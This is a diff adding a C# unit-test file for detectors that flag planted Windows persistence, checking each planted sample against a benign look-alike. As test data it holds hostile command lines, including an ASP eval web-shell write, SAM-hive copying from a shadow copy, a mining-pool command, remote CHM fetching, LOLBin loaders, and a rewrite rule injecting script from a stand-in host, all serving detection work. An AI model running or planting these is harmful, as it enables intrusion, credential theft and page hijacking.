@@ -1,0 +1,67 @@
+using Afterpatch.Analysis.Detectors.Defence;
+using Afterpatch.Analysis.Detectors.Persistence;
+using Afterpatch.Core;
+using Xunit;
+using static Afterpatch.Analysis.Tests.Detectors.Persistence.Facts;
+
+namespace Afterpatch.Analysis.Tests.Detectors.Persistence;
+
+/// <summary>What is planted, each beside the honest thing that looks like it.</summary>
+public sealed class PlantedTests
+{
+    [Theory]
+    [InlineData("powershell", "-w hidden -c PS_CMD", "powershell", "-File D:\\Jobs\\PS_CMD.ps1")]
+    [InlineData("powershell.exe", "PS_CMD", "notepad.exe", "PS_CMD")]
+    public void A_worker_task_whose_script_was_never_put_in_is_lemon_ducks(string command, string arguments, string honest, string honestArguments)
+    {
+        Assert.Equal("lemonduck.task", Assert.Single(Run(new ScheduledTaskDetector(), Task(@"\kT2vWq8", command, arguments))).Detector);
+        Assert.Empty(Run(new ScheduledTaskDetector(), Task(@"\Jobs", honest, honestArguments)));
+    }
+
+    [Theory]
+    [InlineData("cmd.exe", @"/c echo ^<%eval request(""a"")%^> > C:\inetpub\wwwroot\aspnet_client\a.asp", @"/c echo done > D:\Logs\a.txt")]
+    [InlineData("cmd.exe", @"/c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SAM D:\s", @"/c copy D:\Backup\SAM.csv E:\s")]
+    [InlineData(@"D:\Tools\nv.exe", "-o stratum+tcp://pool.example.test:3333 -u x", "-o D:\\Reports\\out.csv")]
+    [InlineData("java.exe", @"-jar C:\Users\Public\a.jar", @"-jar D:\App\a.jar")]
+    [InlineData("pythonw.exe", @"C:\ProgramData\a.py", @"D:\Jobs\a.py")]
+    [InlineData("control.exe", @"C:\ProgramData\a.cpl", "desk.cpl")]
+    [InlineData("cmstp.exe", @"/s C:\Users\Public\a.inf", @"/s ""C:\Program Files\Vpn\vpn.inf""")]
+    [InlineData("hh.exe", "http://203.0.113.9/a.chm", @"C:\Windows\Help\mmc.chm")]
+    [InlineData("wuauclt.exe", @"/UpdateDeploymentProvider C:\ProgramData\w.dll /RunHandlerComServer", "/detectnow")]
+    public void Tasks_are_judged_by_what_they_run(string command, string planted, string honest)
+    {
+        Assert.True(Assert.Single(Run(new ScheduledTaskDetector(), Task(@"\x", command, planted))).Severity >= Severity.Medium);
+        Assert.Empty(Run(new ScheduledTaskDetector(), Task(@"\x", command, honest)));
+    }
+
+    [Theory]
+    [InlineData("RunOnceEx", @"C:\ProgramData\e.dll Start", @"C:\Program Files\Vendor\e.dll Start")]
+    [InlineData("Crash handler", @"""C:\Users\Public\d.exe"" -p %ld -e %ld", @"""C:\Windows\system32\vsjitdebugger.exe"" -p %ld -e %ld")]
+    [InlineData("Media driver", @"C:\ProgramData\codec\m.dll", "msacm32.drv")]
+    [InlineData("Name server plug-in", @"D:\dns\p.dll", "")]
+    [InlineData("Telemetry", @"C:\Windows\Temp\t.exe", @"%windir%\system32\CompatTelRunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun")]
+    public void Autostart_points_are_judged_by_what_stands_there(string location, string planted, string honest)
+    {
+        Assert.Single(Run(new AutostartDetector(), Item("autostart", @"HKLM\X\v", "unknown", ("location", location), ("command", planted))));
+        Assert.Empty(Run(new AutostartDetector(), Item("autostart", @"HKLM\X\v", "unknown", ("location", location), ("command", honest))));
+    }
+
+    [Fact]
+    public void A_rule_that_writes_script_into_every_page_is_told_and_microsofts_header_is_not()
+    {
+        var findings = Run(new DefenceDetector(),
+            Item("rewrite-rule", "inj", "unknown", ("direction", "outbound"), ("match", "</body>"), ("action", "Rewrite"), ("target", "<script src=\"http://203.0.113.5/k.js\"></script></body>")),
+            Item("rewrite-rule", "csp", "unknown", ("direction", "outbound"), ("serverVariable", "RESPONSE_Content-Security-Policy"), ("action", "Rewrite"), ("target", "script-src 'self' https://res.cdn.office.net")),
+            Item("rewrite-rule", "https", "unknown", ("direction", "inbound"), ("match", "(.*)"), ("action", "Redirect"), ("target", "https://{HTTP_HOST}/{R:1}")));
+        Assert.Equal(("persistence.page-injection", Severity.High, "inj"), findings.Select(finding => (finding.Detector, finding.Severity, finding.Subject.Value)).Single(one => one.Detector == "persistence.page-injection"));
+    }
+
+    [Theory]
+    [InlineData("virtual-directory", "physicalPath", @"C:\", @"D:\Apps\site")]
+    [InlineData("isapi-filter", "path", @"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\owa\auth\owaauth2.dll", @"C:\Program Files\Vendor\waf.dll")]
+    public void Iis_is_not_led_to_a_drive_or_to_a_library_among_pages(string kind, string field, string planted, string honest)
+    {
+        Assert.Equal(Severity.High, Assert.Single(Run(new IisDetector(), Item(kind, "x", "unknown", (field, planted), ("source", "live")))).Severity);
+        Assert.Empty(Run(new IisDetector(), Item(kind, "x", "unknown", (field, honest), ("source", "live"))));
+    }
+}
